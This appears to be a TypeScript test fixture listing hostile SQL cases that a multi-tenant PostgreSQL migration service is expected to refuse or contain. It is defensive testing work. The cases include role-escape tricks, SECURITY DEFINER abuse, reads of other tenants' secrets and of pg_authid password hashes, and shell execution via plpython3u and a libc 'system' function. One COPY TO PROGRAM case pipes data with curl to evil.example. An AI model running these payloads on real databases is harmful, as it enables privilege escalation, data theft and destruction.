/**
 * Hostile DDL under the `trusted` policy, which allows whatever PostgreSQL allows the tenant's
 * role and refuses at submission only what docs/contract.md §10 lists. So most attacks reach
 * PostgreSQL, which must refuse them the tenant's role, or the gate, which refuses at commit
 * what a DDL built at run time left behind.
 *
 * - `{ refused }`: the policy refuses it at submission (400); the message reads
 *   `ddl statement K of N (KIND) is not allowed: RULE` and matches the regex.
 * - `{ failsAtApply }`: it passes submission, but the apply must end `failed` with nothing
 *   applied and nothing outside the tenant changed (the tenant role's privileges, the apply
 *   session that can do nothing itself, the gate at commit). Each such case runs its payload
 *   during the apply itself (a DO block, a CALL, a trigger fired by an INSERT, a deferred
 *   trigger fired at COMMIT), never only defines it.
 *
 * Attacks on the next tenant of the same apply session (what a session could carry over) are
 * in test/trusted-sessions.e2e-spec.ts.
 *
 * Placeholders, substituted by the test:
 * - `{{self}}`  the submitting tenant's own schema (`tenant_<32 hex>`);
 * - `{{other}}` ANOTHER tenant's schema, which holds `secrets (id int, secret text)`;
 * - `{{other_role}}` that other tenant's role;
 * - `{{service_role}}` the service's own (runtime) role, which an escape would want to become.
 * Each ddl is self-contained: it creates in its own schema whatever else it uses, so it can be
 * applied as version 1 of a fresh tenant. Every ddl parses once the placeholders are substituted.
 */
export interface TrustedHostileCase {
  name: string;
  ddl: string;
  expect: { refused: RegExp } | { failsAtApply: true };
}

/** `ddl statement k of n ... not allowed: ...(gist)`, `gist` alternatives matched case-insensitively. */
function refused(k: number, n: number, gist: string): { refused: RegExp } {
  return { refused: new RegExp(`statement ${k} of ${n} .*not allowed:.*(?:${gist})`, 'i') };
}
const failsAtApply = { failsAtApply: true } as const;

const ROLE = 'changing the role';
const GRANT = 'role|grant|privilege|owner';
const EXTENSION = 'extension';

export const TRUSTED_HOSTILE: TrustedHostileCase[] = [
  // --- Leaving the tenant's role: statically visible ------------------------------------
  { name: 'DO EXECUTE of a constant RESET ROLE', ddl: `DO $$ BEGIN EXECUTE 'RESET ROLE'; END $$`, expect: refused(1, 1, ROLE) },
  {
    name: 'DO EXECUTE of a RESET ROLE glued from constants',
    ddl: `DO $$ BEGIN EXECUTE 'RESET ' || 'ROLE'; END $$`,
    expect: refused(1, 1, ROLE),
  },
  { name: 'DO EXECUTE of a constant SET ROLE', ddl: `DO $$ BEGIN EXECUTE $q$SET ROLE postgres$q$; END $$`, expect: refused(1, 1, ROLE) },
  { name: 'static SET ROLE in a DO block', ddl: `DO $$ BEGIN SET ROLE postgres; END $$`, expect: refused(1, 1, ROLE) },
  { name: 'static RESET ROLE in a DO block', ddl: `CREATE TABLE t (id int);\nDO $$ BEGIN RESET ROLE; INSERT INTO t VALUES (1); END $$`, expect: refused(2, 2, ROLE) },
  {
    name: 'static SET SESSION AUTHORIZATION in a DO block',
    ddl: `DO $$ BEGIN SET SESSION AUTHORIZATION postgres; END $$`,
    expect: refused(1, 1, ROLE),
  },
  {
    name: 'static RESET ROLE in a plpgsql function',
    ddl: `CREATE FUNCTION escape() RETURNS void LANGUAGE plpgsql AS $$ BEGIN RESET ROLE; END $$`,
    expect: refused(1, 1, ROLE),
  },
  {
    name: 'static SET ROLE in a sql function',
    ddl: `CREATE FUNCTION escape() RETURNS int LANGUAGE sql AS $$ SET ROLE postgres; SELECT 1 $$`,
    expect: refused(1, 1, ROLE),
  },
  {
    name: 'set_config(role) in a DO block',
    ddl: `DO $$ BEGIN PERFORM set_config('role', 'postgres', true); END $$`,
    expect: refused(1, 1, 'set_config'),
  },
  {
    name: 'CREATE FUNCTION ... SET role',
    ddl: `CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS $$ SELECT 1 $$`,
    expect: refused(1, 1, '\\bset role\\b'),
  },
  {
    name: 'CREATE FUNCTION ... SET search_path to public',
    ddl: `CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = public AS $$ SELECT 1 $$`,
    expect: refused(1, 1, 'search_path'),
  },
  { name: 'set_config(role) in a top-level SELECT', ddl: `SELECT set_config('role', 'postgres', false)`, expect: refused(1, 1, 'set_config') },

  // --- SECURITY DEFINER, other schemas for routines ------------------------------------------
  {
    name: 'CREATE FUNCTION SECURITY DEFINER',
    ddl: `CREATE TABLE t (id int);\nCREATE FUNCTION n() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS $$ SELECT count(*) FROM t $$`,
    expect: refused(2, 2, 'security definer'),
  },
  {
    name: 'ALTER FUNCTION SECURITY DEFINER',
    ddl: `CREATE FUNCTION n() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\nALTER FUNCTION n() SECURITY DEFINER`,
    expect: refused(2, 2, 'security definer'),
  },
  {
    name: 'SECURITY DEFINER function created by a constant EXECUTE',
    ddl: `DO $$ BEGIN EXECUTE 'CREATE FUNCTION n() RETURNS int LANGUAGE sql SECURITY DEFINER AS ''SELECT 1'''; END $$`,
    expect: refused(1, 1, 'security definer'),
  },
  // --- Other schemas by name: PostgreSQL refuses the tenant's role ------------------------------
  { name: 'function created in another tenant', ddl: `CREATE FUNCTION {{other}}.planted() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$`, expect: failsAtApply },
  {
    name: 'trigger function created in another tenant',
    ddl: `CREATE FUNCTION {{other}}.stamp() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`,
    expect: failsAtApply,
  },
  { name: 'function created in public', ddl: `CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$ SELECT $1 $$`, expect: failsAtApply },
  {
    name: 'ALTER FUNCTION ... SET SCHEMA another tenant',
    ddl: `CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\nALTER FUNCTION f() SET SCHEMA {{other}}`,
    expect: failsAtApply,
  },
  {
    name: 'ALTER FUNCTION ... OWNER TO',
    ddl: `CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\nALTER FUNCTION f() OWNER TO postgres`,
    expect: refused(2, 2, GRANT),
  },
  { name: 'ALTER FUNCTION of another tenant', ddl: `ALTER FUNCTION {{other}}.f() VOLATILE`, expect: failsAtApply },
  { name: 'DROP FUNCTION of the service', ddl: `DROP FUNCTION business_store_service.end_attempt(uuid, text, text)`, expect: failsAtApply },

  // --- Languages: the tenant's role may use sql and plpgsql only -----------------------------------
  { name: 'LANGUAGE c function', ddl: `CREATE FUNCTION sys(text) RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system'`, expect: failsAtApply },
  { name: 'LANGUAGE internal function', ddl: `CREATE FUNCTION add(int, int) RETURNS int LANGUAGE internal AS 'int4pl'`, expect: failsAtApply },
  {
    name: 'LANGUAGE plpython3u function',
    ddl: `CREATE FUNCTION sh() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen('id').read() $$`,
    expect: failsAtApply,
  },
  { name: 'DO block in plpython3u', ddl: `DO LANGUAGE plpython3u $$ import os; os.system('id') $$`, expect: failsAtApply },

  // --- Other tenants and the service's own tables, by name ----------------------------------------
  {
    name: 'plpgsql function selecting from another tenant, called',
    ddl: `CREATE TABLE loot (s text);
CREATE FUNCTION leak() RETURNS text LANGUAGE plpgsql AS $$ DECLARE s text; BEGIN SELECT string_agg(secret, ',') INTO s FROM {{other}}.secrets; RETURN s; END $$;
INSERT INTO loot SELECT leak()`,
    expect: failsAtApply,
  },
  {
    name: 'sql function selecting from another tenant',
    ddl: `CREATE FUNCTION leak() RETURNS SETOF text LANGUAGE sql AS $$ SELECT secret FROM {{other}}.secrets $$`,
    expect: failsAtApply,
  },
  {
    name: 'BEGIN ATOMIC body selecting from another tenant',
    ddl: `CREATE FUNCTION leak() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM {{other}}.secrets; END`,
    expect: failsAtApply,
  },
  { name: 'row type of another tenant declared in a DO block', ddl: `DO $$ DECLARE s {{other}}.secrets%ROWTYPE; BEGIN NULL; END $$`, expect: failsAtApply },
  {
    name: 'DO block ending pending attempts in schema_migrations',
    ddl: `DO $$ BEGIN UPDATE business_store_service.schema_migrations SET status = 'failed', details = 'x' WHERE status = 'pending'; END $$`,
    expect: failsAtApply,
  },
  { name: 'DO block calling a service function', ddl: `DO $$ BEGIN PERFORM business_store_service.purge_schema_migrations(now(), 1000); END $$`, expect: failsAtApply },
  { name: 'CALL of a service routine', ddl: `CALL business_store_service.prepare_tenant('x', 'y')`, expect: failsAtApply },
  {
    name: 'pg_authid read into a table of the tenant',
    ddl: `CREATE TABLE loot (p text);\nINSERT INTO loot SELECT rolpassword FROM pg_authid`,
    expect: failsAtApply,
  },
  {
    name: 'function returning the rows of another tenant',
    ddl: `CREATE FUNCTION leak() RETURNS SETOF {{other}}.secrets LANGUAGE sql AS $$ SELECT 1, 'x' $$`,
    expect: failsAtApply,
  },
  { name: "the service's own backends terminated", ddl: `SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{{service_role}}'`, expect: failsAtApply },

  // --- Triggers and rules ----------------------------------------------------------------------------
  {
    name: 'trigger on another tenant table',
    ddl: `CREATE FUNCTION stamp() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;\nCREATE TRIGGER planted BEFORE INSERT ON {{other}}.secrets FOR EACH ROW EXECUTE FUNCTION stamp()`,
    expect: failsAtApply,
  },
  {
    name: 'trigger on the service audit table',
    ddl: `CREATE FUNCTION stamp() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;\nCREATE TRIGGER planted BEFORE UPDATE ON business_store_service.schema_migrations FOR EACH ROW EXECUTE FUNCTION stamp()`,
    expect: failsAtApply,
  },
  {
    name: 'trigger executing a function of another tenant',
    ddl: `CREATE TABLE t (id int);\nCREATE TRIGGER t_stamp BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION {{other}}.stamp()`,
    expect: failsAtApply,
  },
  {
    // USER triggers are the tenant's; the system triggers that enforce a foreign key are not.
    name: 'DISABLE TRIGGER ALL on a table with a foreign key',
    ddl: `CREATE TABLE p (id int PRIMARY KEY);\nCREATE TABLE c (p_id int REFERENCES p);\nALTER TABLE c DISABLE TRIGGER ALL`,
    expect: failsAtApply,
  },
  {
    name: 'CREATE EVENT TRIGGER',
    ddl: `CREATE FUNCTION et() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$;\nCREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION et()`,
    expect: refused(2, 2, 'event trigger'),
  },
  { name: 'CREATE RULE on another tenant table', ddl: `CREATE RULE r AS ON INSERT TO {{other}}.secrets DO INSTEAD NOTHING`, expect: failsAtApply },

  // --- Extensions ----------------------------------------------------------------------------------
  { name: 'CREATE EXTENSION dblink', ddl: `CREATE EXTENSION dblink`, expect: refused(1, 1, EXTENSION) },
  { name: 'CREATE EXTENSION plpython3u', ddl: `CREATE EXTENSION IF NOT EXISTS plpython3u`, expect: refused(1, 1, EXTENSION) },
  { name: 'CREATE EXTENSION adminpack', ddl: `CREATE EXTENSION adminpack`, expect: refused(1, 1, EXTENSION) },
  { name: 'CREATE EXTENSION dblink in a constant EXECUTE', ddl: `DO $$ BEGIN EXECUTE 'CREATE EXTENSION IF NOT EXISTS dblink'; END $$`, expect: refused(1, 1, EXTENSION) },
  {
    // The service installs pg_trgm first (the definition creates it); only its owner may drop it.
    name: 'DROP EXTENSION of a trusted extension',
    ddl: `CREATE EXTENSION IF NOT EXISTS pg_trgm;\nDROP EXTENSION pg_trgm CASCADE`,
    expect: failsAtApply,
  },
  { name: 'ALTER EXTENSION of a trusted extension', ddl: `CREATE EXTENSION IF NOT EXISTS pg_trgm;\nALTER EXTENSION pg_trgm UPDATE`, expect: failsAtApply },

  // --- COPY, ALTER SYSTEM, LOAD, transactions, grants -------------------------------------------
  {
    name: 'COPY TO PROGRAM',
    ddl: `CREATE TABLE t (id int);\nCOPY t TO PROGRAM 'curl -d @- http://evil.example'`,
    expect: refused(2, 2, 'copy'),
  },
  {
    name: 'COPY FROM PROGRAM by a constant EXECUTE',
    ddl: `CREATE TABLE t (v text);\nDO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$`,
    expect: refused(2, 2, 'copy'),
  },
  { name: 'COPY to a file', ddl: `CREATE TABLE t (id int);\nCOPY t TO '/tmp/bss-leak'`, expect: refused(2, 2, 'copy') },
  { name: 'ALTER SYSTEM', ddl: `ALTER SYSTEM SET log_statement = 'none'`, expect: refused(1, 1, 'system|configuration') },
  { name: 'LOAD', ddl: `LOAD 'auto_explain'`, expect: refused(1, 1, 'load') },
  { name: 'LOAD by a constant EXECUTE', ddl: `DO $$ BEGIN EXECUTE 'LOAD ''auto_explain'''; END $$`, expect: refused(1, 1, 'load') },
  {
    name: 'COMMIT in a procedure',
    ddl: `CREATE TABLE t (id int);\nCREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN INSERT INTO t VALUES (1); COMMIT; END $$`,
    expect: refused(2, 2, 'transaction'),
  },
  { name: 'ROLLBACK in a DO block', ddl: `DO $$ BEGIN ROLLBACK; END $$`, expect: refused(1, 1, 'transaction') },
  { name: 'GRANT own table to PUBLIC', ddl: `CREATE TABLE t (id int);\nGRANT SELECT ON t TO PUBLIC`, expect: refused(2, 2, GRANT) },
  {
    name: 'GRANT own function to another tenant role',
    ddl: `CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\nGRANT EXECUTE ON FUNCTION f() TO {{other_role}}`,
    expect: refused(2, 2, GRANT),
  },
  { name: 'GRANT USAGE on own schema in a DO block', ddl: `DO $$ BEGIN GRANT USAGE ON SCHEMA {{self}} TO PUBLIC; END $$`, expect: refused(1, 1, GRANT) },
  { name: 'GRANT of a role', ddl: `GRANT {{other_role}} TO CURRENT_USER`, expect: refused(1, 1, GRANT) },
  { name: 'ALTER DEFAULT PRIVILEGES ... GRANT', ddl: `ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC`, expect: refused(1, 1, GRANT) },
  { name: 'ALTER TABLE ... OWNER TO', ddl: `CREATE TABLE t (id int);\nALTER TABLE t OWNER TO {{service_role}}`, expect: refused(2, 2, GRANT) },
  { name: 'REASSIGN OWNED', ddl: `REASSIGN OWNED BY CURRENT_USER TO {{service_role}}`, expect: refused(1, 1, GRANT) },
  {
    name: 'CREATE INDEX CONCURRENTLY in a transactional definition',
    ddl: `CREATE TABLE t (id int);\nCREATE INDEX CONCURRENTLY t_id ON t (id)`,
    expect: refused(2, 2, 'concurrently'),
  },

  // --- Dynamic SQL: invisible to the allow-list, confined at apply ------------------------------
  {
    // In the tenant's own session RESET ROLE lands on the tenant itself: what follows is confined.
    name: 'DO EXECUTE of a RESET ROLE built at run time, then a table in public',
    ddl: `DO $$ BEGIN EXECUTE concat('RESET', ' ROLE'); EXECUTE format('CREATE TABLE %I.leak (id int)', 'public'); END $$`,
    expect: failsAtApply,
  },
  {
    // The classic escape: leave the tenant role, act as the service, come back before the check.
    name: 'RESET ROLE, end pending attempts as the service, SET ROLE back',
    ddl: `DO $$
DECLARE
  tenant_role text := current_user;
BEGIN
  EXECUTE concat('RESET', ' ROLE');
  EXECUTE concat('UPDATE business_store_service.schema_migrations SET status = ', quote_literal('failed'),
                 ', details = ', quote_literal('ended by another tenant'), ' WHERE status = ', quote_literal('pending'));
  EXECUTE format('SET ROLE %I', tenant_role);
END $$`,
    expect: failsAtApply,
  },
  {
    name: 'RESET ROLE, read another tenant as the service, SET ROLE back',
    ddl: `CREATE TABLE loot (secret text);
DO $$
DECLARE
  tenant_role text := current_user;
BEGIN
  EXECUTE concat('RESET', ' ROLE');
  EXECUTE format('INSERT INTO %I.loot SELECT secret FROM %I.secrets', '{{self}}', '{{other}}');
  EXECUTE format('SET ROLE %I', tenant_role);
END $$`,
    expect: failsAtApply,
  },
  {
    // SET ROLE asks whether the SESSION user is a member: the service may be a member of every tenant role.
    name: 'SET ROLE to another tenant role, plant a secret, SET ROLE back',
    ddl: `DO $$
DECLARE
  tenant_role text := current_user;
BEGIN
  EXECUTE format('SET ROLE %I', '{{other_role}}');
  EXECUTE format('INSERT INTO %I.secrets VALUES (2, %L)', '{{other}}', 'planted');
  EXECUTE format('SET ROLE %I', tenant_role);
END $$`,
    expect: failsAtApply,
  },
  {
    name: 'SET ROLE to another tenant role, built at run time',
    ddl: `DO $$ BEGIN EXECUTE format('SET ROLE %I', '{{other_role}}'); END $$`,
    expect: failsAtApply,
  },
  { name: "SET ROLE to the service's role, built at run time", ddl: `DO $$ BEGIN EXECUTE format('SET ROLE %I', '{{service_role}}'); END $$`, expect: failsAtApply },
  {
    name: "SET SESSION AUTHORIZATION to the service's role, built at run time",
    ddl: `DO $$ BEGIN EXECUTE format('SET SESSION AUTHORIZATION %I', '{{service_role}}'); END $$`,
    expect: failsAtApply,
  },
  {
    name: 'set_config(role) called through a string built at run time',
    ddl: `DO $$ BEGIN EXECUTE format('SELECT %s(%L, %L, true)', 'set_config', 'role', 'postgres'); END $$`,
    expect: failsAtApply,
  },
  {
    name: 'function reading another tenant by EXECUTE, called in the definition',
    ddl: `CREATE TABLE loot (secret text);
CREATE FUNCTION steal() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('INSERT INTO loot SELECT secret FROM %I.%I', '{{other}}', 'secrets');
END $$;
DO $$ BEGIN PERFORM steal(); END $$`,
    expect: failsAtApply,
  },
  {
    name: 'DO block ending pending attempts by EXECUTE',
    ddl: `DO $$ BEGIN EXECUTE format('UPDATE %I.%I SET status = %L WHERE status = %L', 'business_store_service', 'schema_migrations', 'failed', 'pending'); END $$`,
    expect: failsAtApply,
  },
  {
    name: 'procedure calling a service function by EXECUTE, CALLed in the definition',
    ddl: `CREATE PROCEDURE purge() LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('SELECT %I.%I(now(), 1000)', 'business_store_service', 'purge_schema_migrations');
END $$;
CALL purge()`,
    expect: failsAtApply,
  },
  {
    name: 'trigger writing into another tenant by EXECUTE, fired by an INSERT',
    ddl: `CREATE TABLE orders (id int PRIMARY KEY);
CREATE FUNCTION orders_plant() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('INSERT INTO %I.secrets (id, secret) VALUES (%s, %L)', '{{other}}', NEW.id, 'planted');
  RETURN NEW;
END $$;
CREATE TRIGGER orders_plant AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION orders_plant();
INSERT INTO orders VALUES (1)`,
    expect: failsAtApply,
  },
  {
    name: 'deferred constraint trigger emptying another tenant at COMMIT',
    ddl: `CREATE TABLE orders (id int PRIMARY KEY);
CREATE FUNCTION orders_wipe() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('DELETE FROM %I.%I', '{{other}}', 'secrets');
  RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER orders_wipe AFTER INSERT ON orders DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION orders_wipe();
INSERT INTO orders VALUES (1)`,
    expect: failsAtApply,
  },
  {
    name: 'COPY TO PROGRAM built at run time',
    ddl: `DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal('id'); END $$`,
    expect: failsAtApply,
  },
  {
    name: 'pg_authid read by EXECUTE',
    ddl: `CREATE TABLE loot (p text);\nDO $$ BEGIN EXECUTE format('INSERT INTO loot SELECT rolpassword FROM %I.%I', 'pg_catalog', 'pg_authid'); END $$`,
    expect: failsAtApply,
  },
  { name: 'CREATE SCHEMA built at run time', ddl: `DO $$ BEGIN EXECUTE format('CREATE SCHEMA %I', 'planted'); END $$`, expect: failsAtApply },
  {
    // No IF NOT EXISTS: once pg_trgm is in bss_extensions that would skip without a privilege check.
    name: 'CREATE EXTENSION into the own schema built at run time',
    ddl: `DO $$ BEGIN EXECUTE format('CREATE EXTENSION %I SCHEMA %I', 'pg_trgm', current_schema()); END $$`,
    expect: failsAtApply,
  },
  {
    name: 'COMMIT by EXECUTE in a CALLed procedure',
    ddl: `CREATE TABLE t (id int);
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN INSERT INTO t VALUES (1); EXECUTE concat('COM', 'MIT'); END $$;
CALL p()`,
    expect: failsAtApply,
  },
  {
    // The tenant role owns its schema and may grant on it: only an apply-time check of the
    // schema's and its objects' ACLs can refuse this one.
    name: 'GRANT of the own schema and table to PUBLIC built at run time',
    ddl: `CREATE TABLE t (id int);
DO $$ BEGIN
  EXECUTE format('GRANT USAGE ON SCHEMA %I TO PUBLIC', current_schema());
  EXECUTE format('GRANT SELECT ON %I TO PUBLIC', 't');
END $$`,
    expect: failsAtApply,
  },
  {
    // Likewise: the tenant role may create a SECURITY DEFINER function in its own schema.
    name: 'SECURITY DEFINER function created at run time',
    ddl: `DO $$ BEGIN
  EXECUTE format('CREATE FUNCTION %I() RETURNS int LANGUAGE sql %s AS %L', 'n', 'SECURITY DEFINER', 'SELECT 1');
END $$`,
    expect: failsAtApply,
  },
  {
    // Once out of the tenant's role the DDL runs as the apply session's own role, which can do
    // nothing: the gate refuses to record success for a DDL that ends there.
    name: 'RESET ROLE built at run time, as the last thing the DDL does',
    ddl: `CREATE TABLE t (id int);\nDO $$ BEGIN EXECUTE concat('RESET', ' ROLE'); END $$`,
    expect: failsAtApply,
  },
  {
    name: "settings of the apply session's own role, then back to the tenant's role",
    ddl: `CREATE TABLE t (id int);
DO $$
DECLARE tenant_role text := current_user;
BEGIN
  EXECUTE concat('RESET', ' ROLE');
  EXECUTE format('ALTER ROLE %I SET search_path = public', session_user);
  EXECUTE format('SET ROLE %I', tenant_role);
END $$`,
    expect: failsAtApply,
  },
  {
    name: 'a grant on a column to PUBLIC built at run time',
    ddl: `CREATE TABLE t (id int, secret text);\nDO $$ BEGIN EXECUTE format('GRANT SELECT (id) ON %I TO PUBLIC', 't'); END $$`,
    expect: failsAtApply,
  },
  {
    name: "a large object owned by the apply session's role",
    ddl: `CREATE TABLE t (id int);
DO $$
DECLARE tenant_role text := current_user;
BEGIN
  EXECUTE concat('RESET', ' ROLE');
  PERFORM lo_create(0);
  EXECUTE format('SET ROLE %I', tenant_role);
END $$`,
    expect: failsAtApply,
  },
];
